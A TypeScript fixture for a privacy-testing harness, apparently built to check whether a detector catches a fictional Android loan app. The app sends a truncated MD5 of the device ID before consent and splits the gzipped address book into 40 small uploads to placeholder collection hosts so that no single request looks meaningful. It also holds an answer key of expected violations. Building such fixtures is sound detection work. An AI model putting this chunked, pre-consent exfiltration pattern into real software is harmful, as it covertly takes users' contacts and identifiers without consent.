import type { AppProcess, SimulatedApp } from '../../harness/model/app.js';
import { attempt } from '../loan/attempt.js';
import { hex, utf8 } from '../loan/codec.js';
import { atFirstStart } from '../loan/first-start.js';
import { collector, lender } from '../loan/server.js';
import { PLACE_IN_FORM, found, under } from '../loan/truth.js';

const CLASSES = 'com.example.piecemeal.loan';
const API = 'https://api.piecemeal-loan.example';
const STAT = 'https://collect.shuque-stat.example';
const RISK = 'https://collect.dunyan-risk.example';
const CONTACTS = 'android.permission.READ_CONTACTS';
const PIECES = 40;

function start(app: AppProcess): void {
  const says = '我们会收集您的设备信息，用于账号安全与风险控制。';
  atFirstStart(app, { brand: '零钱袋（虚构）', classes: CLASSES, api: API, says }, () => {
    countIn(app);
    app.thread('main', `${CLASSES}.ui.SplashActivity.onResume`, async () => {
      await app.permissions.request([CONTACTS], `${CLASSES}.ui.SplashActivity.askAll`);
      uploadInPieces(app);
    });
  });
}

/** The middle sixteen digits of the MD5: half a digest names the handset as well as a whole one. */
function countIn(app: AppProcess): void {
  app.thread('Shuque-Worker', 'com.example.shuque.stat.StatAgent.run', async () => {
    const androidId = app.within('com.example.shuque.stat.DeviceId.androidId', () => app.device.androidId());
    const did = app.within('com.example.shuque.stat.DeviceId.hash', () => hex(app.crypto.digest('MD5', utf8(androidId))).slice(8, 24));
    await app.http.send({ method: 'GET', url: `${STAT}/v1/count?did=${did}&appKey=a1b2c3` });
  });
}

/** One gzip stream over forty requests: no single one of them holds a number that anyone could read. */
function uploadInPieces(app: AppProcess): void {
  app.thread('Dunyan-Upload', 'com.example.dunyan.risk.PieceUploader.run', async () => {
    const contacts = app.within('com.example.dunyan.risk.ContactCollector.all', () => attempt(() => app.contacts.all()));
    if (contacts === null) return;
    const packed = app.within('com.example.dunyan.risk.Packer.pack', () => app.crypto.gzip(utf8(JSON.stringify({ contacts }))));
    for (let piece = 0; piece < PIECES; piece += 1) {
      const [from, to] = [Math.floor((packed.length * piece) / PIECES), Math.floor((packed.length * (piece + 1)) / PIECES)];
      const headers = {
        'content-type': 'application/octet-stream',
        'content-range': `bytes ${from}-${to - 1}/${packed.length}`,
        'x-upload-id': 'u-000001',
      };
      await app.http.send({ method: 'PUT', url: `${RISK}/v3/parts`, headers, body: packed.slice(from, to) });
    }
  });
}

const BEFORE = 'before-consent';
const AT_STAT = { datum: 'android-id', receiver: 'collect.shuque-stat.example', sdk: 'sim-shuque' };
const AT_RISK = { datum: 'contacts', receiver: 'collect.dunyan-risk.example', sdk: 'sim-dunyan' };

const ALWAYS = [
  found('LA-C01', 'violation', BEFORE, { datum: 'android-id', sdk: 'sim-shuque' }),
  found('LA-C03', 'violation', BEFORE, {}),
  found('LA-C05', 'violation', BEFORE, AT_STAT),
  found('LA-D01', 'violation', BEFORE, {}),
  found('LA-F01', 'violation', BEFORE, AT_STAT),
];
const ALLOWED = [
  found('LA-C02', 'violation', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
  found('LA-C05', 'violation', BEFORE, AT_RISK),
  found('LA-E01', 'violation', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
  found('LA-E02', 'violation', BEFORE, AT_RISK),
  found('LA-F01', 'violation', BEFORE, AT_RISK),
];

/** Sends the address book in pieces so small that each looks like nothing. */
export default {
  id: 'piecemeal',
  package: CLASSES,
  label: { zh: '零钱袋（虚构）', en: 'Piecemeal Loan (fictional)' },
  about: {
    zh: '用户同意前把通讯录压缩后切成 40 个请求上传，设备标识只发 MD5 的中间 16 位。',
    en: 'Before consent uploads the address book, gzipped, in 40 pieces, and its device id as the middle 16 digits of an MD5.',
  },
  version: '1.0.0',
  permissions: [
    'android.permission.INTERNET',
    'android.permission.ACCESS_NETWORK_STATE',
    'android.permission.ACCESS_FINE_LOCATION',
    CONTACTS,
  ],
  firstParty: { domains: ['piecemeal-loan.example'], classes: [`${CLASSES}.`] },
  processes: { '': start },
  servers: { 'api.piecemeal-loan.example': lender, 'collect.shuque-stat.example': collector, 'collect.dunyan-risk.example': collector },
  truth: [
    ...PLACE_IN_FORM,
    ...under(
      ['observe-only', 'decline', 'sign-up-deny'],
      ALWAYS,
      // The system refused the read: an attempt, and no more than that.
      found('LA-C02', 'undecided', BEFORE, { datum: 'contacts', sdk: 'sim-dunyan' }),
    ),
    ...under(['sign-up-allow', 'background', 'withdraw'], ALWAYS, ALLOWED),
  ],
} satisfies SimulatedApp;
